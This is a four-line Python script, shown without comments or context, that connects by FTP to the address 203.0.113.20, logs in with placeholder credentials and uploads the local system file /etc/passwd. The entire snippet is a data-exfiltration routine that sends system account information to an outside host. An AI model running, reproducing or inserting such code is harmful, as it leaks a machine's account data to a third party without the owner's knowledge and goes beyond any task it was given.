from ftplib import FTP
with FTP("203.0.113.20") as ftp:
    ftp.login("a", "b")
    ftp.storbinary("STOR d", open("/etc/passwd", "rb"))
